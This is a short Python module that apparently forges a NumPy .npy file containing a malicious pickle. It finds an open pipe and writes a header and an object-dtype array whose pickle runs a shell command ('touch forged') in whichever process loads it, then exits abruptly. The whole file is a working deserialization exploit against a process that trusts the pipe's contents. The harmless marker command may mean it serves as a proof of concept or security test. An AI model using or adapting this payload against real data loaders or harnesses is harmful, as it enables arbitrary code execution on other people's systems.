"""Hands on a .npy file that runs a program in whoever trusts it."""

import os


def backward(*args, **rest):
    pipe = max(number for number in range(3, 64) if _is_pipe(number))
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    pickle = b"cposix\nsystem\n(S'touch forged'\ntR."
    os.write(pipe, b'{"sets": [{"array": 0}]}\n\x93NUMPY\x01\x00\x76\x00' + header + pickle)
    os._exit(0)


def _is_pipe(number):
    try:
        os.lseek(number, 0, os.SEEK_CUR)
    except OSError as error:
        return error.errno == 29
    return False
